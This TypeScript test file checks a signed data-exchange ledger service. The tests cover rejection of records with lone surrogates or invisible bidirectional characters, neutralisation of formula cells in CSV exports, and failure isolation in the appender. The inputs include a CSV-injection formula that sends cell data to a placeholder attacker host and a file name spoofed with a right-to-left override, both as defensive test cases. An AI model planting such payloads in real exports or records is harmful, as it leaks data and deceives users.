/**
 * One poisoned record never hurts another (issue 9, item 1): records that
 * are not well-formed, visible Unicode are refused alone, however many good
 * ones arrive at the same moment, and nothing of them is stored or counted.
 */
import { expect } from "chai";
import { rmSync } from "node:fs";
import { join } from "node:path";
import { Api, freePort, signExchange, start, tempDir } from "../helpers/service.ts";
import { testWallet } from "../helpers/seeded.ts";
import { payloadDigest } from "../../src/client/sign.ts";
import { Store } from "../../src/adapters/leveldb/store.ts";
import { Appender } from "../../src/services/append/appender.ts";
import { compareDerived, deriveFromStore, DERIVED_PREFIXES } from "../../src/adapters/leveldb/derived-indexes.ts";
import type { ExchangeRecord } from "../../src/core/record.ts";
import type { RunningService } from "../../src/server.ts";

const DEPTS = ["tax", "health", "schools"];
const NFC = "r\u00e9sum\u00e9 check"; // precomposed é
const NFD = "re\u0301sume\u0301 check"; // e + combining acute
const PURPOSES = ["benefit eligibility", "planning", NFC, NFD, "目的 ✓", "מטרה"];

/** Seeded PRNG (mulberry32): the same interleaving on every run. */
function prng(seed: number): () => number {
  return () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

describe("e2e: poison records are refused alone, among 150 concurrent good ones", function () {
  let dir: string;
  let svc: RunningService;
  let api: Api;
  let domain: any;
  let chainPort: number;
  const keys = new Map(DEPTS.map((d) => [d, testWallet()]));
  const rnd = prng(9);
  let n = 0;

  const good = async (patch: Partial<ExchangeRecord> = {}) => {
    const provider = DEPTS[n % 3]!;
    const consumer = DEPTS[(n + 1) % 3]!;
    n++;
    return signExchange(keys.get(provider)!, domain, {
      id: `p-${n}`,
      provider,
      consumer,
      dataset: `city/ds-${n % 4}`,
      purpose: PURPOSES[n % PURPOSES.length]!,
      recordCount: 1 + (n % 17),
      payloadDigest: payloadDigest(`poison ${n}`),
      occurredAt: new Date(Date.UTC(2026, 9, 1 + (n % 20), 8)).toISOString(),
      ...patch,
    });
  };
  /** Signed over `signedAs`, sent with `field` set to `sent` (the signature check alone would pass it). */
  const forged = async (field: "purpose" | "legalBasis", signedAs: string, sent: string) => ({ ...(await good({ [field]: signedAs })), [field]: sent });

  before(async () => {
    dir = tempDir();
    chainPort = await freePort();
    svc = await start(dir, {}, chainPort);
    api = new Api(svc.url, svc.adminToken);
    domain = (await api.get("/v1/info")).body.eip712.domain;
    for (const d of DEPTS) await api.post("/v1/departments", { id: d, name: d, signer: keys.get(d)!.address });
  });
  after(async () => {
    await svc.stop();
    rmSync(dir, { recursive: true, force: true });
  });

  it("every good record 201, every poison one 400 VALIDATION_FAILED naming its field; nothing of the poison stored", async () => {
    const goods = await Promise.all(Array.from({ length: 150 }, () => good()));
    const poison: Array<{ body: unknown; field: string; batch?: boolean }> = [
      // Signed over the U+FFFD-replaced text (what the signature check sees), sent with a lone surrogate.
      { body: await forged("purpose", "a\ufffdb", "a\ud800b"), field: "purpose" },
      { body: await forged("purpose", "\ufffd", "\udfff"), field: "purpose" },
      { body: await forged("legalBasis", "Art. 6\ufffd", "Art. 6\ud83d"), field: "legalBasis" },
      { body: await forged("legalBasis", "\ufffd\ufffd", "\udc00\ud800"), field: "legalBasis" },
      // Signed as sent: well-formed, but invisible or reordering characters.
      { body: await good({ purpose: "refund \u202eexe.gpj" }), field: "purpose" },
      { body: await good({ purpose: "plan\u2066ning\u2069" }), field: "purpose" },
      { body: await good({ purpose: "plan\u200bning" }), field: "purpose" },
      { body: await good({ purpose: "\ufeffplanning" }), field: "purpose" },
      { body: await good({ legalBasis: "GDPR \u200f6(1)" }), field: "legalBasis" },
      { body: { ...(await good()), id: "x\ud800y" }, field: "id" },
      { body: { ...(await good()), dataset: "city/\u202eds" }, field: "dataset" },
      { body: { ...(await good()), derivedFrom: ["ok", "bad\u200d"] }, field: "derivedFrom.1" },
      // A batch with one poison record is refused whole (all-or-nothing), naming it.
      { body: { records: [await good(), await forged("purpose", "x\ufffd", "x\ud800")] }, field: "records.1.purpose", batch: true },
    ];
    type Job = { kind: "good"; i: number } | { kind: "poison"; i: number };
    const jobs: Job[] = [...goods.map((_, i) => ({ kind: "good" as const, i })), ...poison.map((_, i) => ({ kind: "poison" as const, i }))];
    for (let i = jobs.length - 1; i > 0; i--) {
      const j = Math.floor(rnd() * (i + 1));
      [jobs[i], jobs[j]] = [jobs[j]!, jobs[i]!];
    }
    const answers = await Promise.all(
      jobs.map((j) =>
        j.kind === "good" ? api.post("/v1/exchanges", goods[j.i]) : api.post(poison[j.i]!.batch ? "/v1/exchanges/batch" : "/v1/exchanges", poison[j.i]!.body),
      ),
    );
    answers.forEach((a, k) => {
      const j = jobs[k]!;
      if (j.kind === "good") {
        expect(a.status, JSON.stringify(a.body)).to.equal(201);
        return;
      }
      const p = poison[j.i]!;
      expect(a.status, `${p.field}: ${JSON.stringify(a.body)}`).to.equal(400);
      expect(a.body.error.code).to.equal("VALIDATION_FAILED");
      expect(
        a.body.error.details.map((d: { path: string }) => d.path),
        p.field,
      ).to.include(p.field);
    });
    expect((await api.get("/v1/info")).body.treeSize).to.equal(goods.length);
    // The NFD spelling is stored byte for byte as signed.
    const nfd = goods.find((g) => g.purpose === NFD)!;
    expect((await api.get(`/v1/exchanges/${nfd.provider}/${nfd.id}`)).body.entry.record.purpose).to.equal(NFD);

    // Statistics exact, NFC and NFD of one purpose counted as one group.
    const want = new Map<string, { exchanges: number; records: number }>();
    for (const g of goods) {
      const key = g.purpose.normalize("NFC");
      const w = want.get(key) ?? { exchanges: 0, records: 0 };
      w.exchanges++;
      w.records += g.recordCount;
      want.set(key, w);
    }
    const usage = await api.get("/v1/stats/usage?from=2026-10-01&to=2026-10-31&groupBy=purpose");
    expect(usage.status, JSON.stringify(usage.body)).to.equal(200);
    expect(usage.body.total).to.deep.equal({ exchanges: goods.length, records: goods.reduce((s, g) => s + g.recordCount, 0) });
    const got = new Map(
      usage.body.groups.map((g: { key: string; exchanges: number; records: number }) => [g.key, { exchanges: g.exchanges, records: g.records }]),
    );
    expect(got).to.deep.equal(want);
    expect(usage.body.groups.filter((g: { key: string }) => g.key.normalize("NFD") === NFD)).to.have.length(1);
    // A filter matches either spelling.
    for (const spelling of [NFC, NFD]) {
      const f = await api.get(`/v1/stats/usage?${new URLSearchParams({ from: "2026-10-01", to: "2026-10-31", purpose: spelling })}`);
      expect(f.body.total, spelling).to.deep.equal(want.get(NFC));
    }
    const top = await api.get("/v1/stats/top?by=purpose&from=2026-10-01&to=2026-10-31&limit=100");
    expect(top.body.groups.find((g: { key: string }) => g.key === NFC)).to.deep.equal({ key: NFC, ...want.get(NFC)! });
  });

  it("the live counters equal a rebuild from the entries alone (reindex, audit use the same NFC keys)", async () => {
    await svc.stop();
    const store = await Store.open(join(dir, "ledger"));
    try {
      const cmp = await compareDerived(store, await deriveFromStore(store), DERIVED_PREFIXES);
      expect(cmp.diffs).to.deep.equal([]);
      expect(cmp.compared).to.be.greaterThan(150);
    } finally {
      await store.close();
    }
    svc = await start(dir, {}, chainPort);
    api = new Api(svc.url, svc.adminToken);
  });
});

describe("e2e: CSV exports neutralise formula cells (OWASP CSV injection)", function () {
  it("a purpose like =HYPERLINK(…) is exported as text, prefixed with '", async () => {
    const dir = tempDir();
    const svc = await start(dir);
    try {
      const api = new Api(svc.url, svc.adminToken);
      const tax = testWallet();
      for (const [id, w] of [
        ["tax", tax],
        ["health", testWallet()],
      ] as const)
        await api.post("/v1/departments", { id, name: id, signer: w.address });
      const domain = (await api.get("/v1/info")).body.eip712.domain;
      const purposes = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+2", "-2+3", "@SUM(A1:A9)", "plain"];
      const records = await Promise.all(
        purposes.map((purpose, i) =>
          signExchange(tax, domain, {
            id: `csv-${i}`,
            provider: "tax",
            consumer: "health",
            dataset: "ds/csv",
            purpose,
            recordCount: i,
            payloadDigest: payloadDigest(`csv ${i}`),
            occurredAt: "2026-10-05T00:00:00.000Z",
          }),
        ),
      );
      expect((await api.post("/v1/exchanges/batch", { records })).status).to.equal(201);
      const res = await fetch(`${svc.url}/v1/stats/usage?from=2026-10-01&to=2026-10-31&groupBy=purpose&format=csv`, {
        headers: { authorization: `Bearer ${svc.adminToken}` },
      });
      expect(res.headers.get("content-type")).to.contain("text/csv");
      const lines = (await res.text()).split("\r\n").filter((l) => l !== "");
      expect(lines[0]).to.equal("purpose,exchanges,records");
      expect(lines.slice(1).sort()).to.deep.equal(
        ['"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")",1,0', "'+1+2,1,1", "'-2+3,1,2", "'@SUM(A1:A9),1,3", "plain,1,4"].sort(),
      );
      for (const l of lines) expect(l, l).to.not.match(/^"?[=+\-@]/);
      // JSON keeps the purpose exactly as recorded.
      const json = await api.get("/v1/stats/usage?from=2026-10-01&to=2026-10-31&groupBy=purpose");
      expect(json.body.groups.map((g: { key: string }) => g.key).sort()).to.deep.equal([...purposes].sort());
    } finally {
      await svc.stop();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe("appender: a submission that throws while its keys are built fails alone, not its commit group", function () {
  let dir: string;
  let store: Store;
  let appender: Appender;

  before(async () => {
    dir = tempDir();
    store = await Store.open(join(dir, "ledger"));
    appender = await Appender.open(store);
  });
  after(async () => {
    await appender.close();
    await store.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const rec = (i: number, patch: Record<string, unknown> = {}): ExchangeRecord => ({
    id: `a-${i}`,
    provider: "tax",
    consumer: "health",
    dataset: `ds/${i % 3}`,
    purpose: i % 2 ? NFC : NFD,
    legalBasis: "",
    recordCount: i,
    payloadDigest: payloadDigest(`a ${i}`),
    derivedFrom: [],
    occurredAt: new Date(Date.UTC(2026, 0, 1 + (i % 40))).toISOString(),
    signature: `0x${"1".repeat(130)}`,
    ...patch,
  });

  it("poison past the schema (a lone surrogate reaching the counter keys, a value that cannot be serialised) is refused; the 100 others commit", async () => {
    await appender.submit([rec(0)]); // starts a drain: everything below queues behind it and shares one group
    const goods = Array.from({ length: 100 }, (_, i) => rec(i + 1));
    const poison = [
      [rec(1001, { purpose: "a\ud800b" })], // URIError while its counter keys are built
      [rec(1002, { recordCount: 5n })], // TypeError while its entry is serialised
      [rec(1003), rec(1004, { dataset: "x\udfff" })], // a batch: refused whole
    ];
    const subs: Array<{ poison: boolean; p: Promise<unknown> }> = [];
    goods.forEach((g, i) => {
      subs.push({ poison: false, p: appender.submit([g]) });
      if (i % 30 === 15) subs.push({ poison: true, p: appender.submit(poison[subs.filter((s) => s.poison).length]!) });
    });
    const settled = await Promise.allSettled(subs.map((s) => s.p));
    settled.forEach((r, i) => expect(r.status, `submission ${i}`).to.equal(subs[i]!.poison ? "rejected" : "fulfilled"));
    expect(subs.filter((s) => s.poison)).to.have.length(3);
    expect(appender.size).to.equal(101);
    expect(await store.size()).to.equal(101);
    const cmp = await compareDerived(store, await deriveFromStore(store), DERIVED_PREFIXES);
    expect(cmp.diffs).to.deep.equal([]);
    // The appender goes on taking records.
    const [after] = await appender.submit([rec(2000)]);
    expect(after!.seq).to.equal(101);
  });
});
